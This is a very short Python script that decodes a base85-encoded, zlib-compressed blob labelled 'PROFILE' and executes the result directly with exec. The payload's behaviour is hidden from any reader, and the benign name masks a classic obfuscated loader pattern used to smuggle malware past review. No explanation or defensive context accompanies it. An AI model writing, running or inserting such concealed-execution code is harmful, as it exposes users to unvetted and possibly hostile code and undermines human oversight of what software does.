#!/usr/bin/env python3
import base64
import zlib

PROFILE = (
    "c-l)V%Fk6ONG!?7$xKqn%q_?-Dp3dka=8i=Y{3i-CH>TrWc}jOl>F49V!af7"
    "O9S1+f&wK?t^&RCqRf)i_>$C$5)CCsA0GuEw$%U<RzR$&;O8IU7#tk#Vg(Y9"
    "$ph<1&dAMA(J;t2F)`5O0s!zdCK>"
)


def unpack(data):
    return zlib.decompress(base64.b85decode(data)).decode()


exec(compile(unpack(PROFILE), "profile", "exec"))
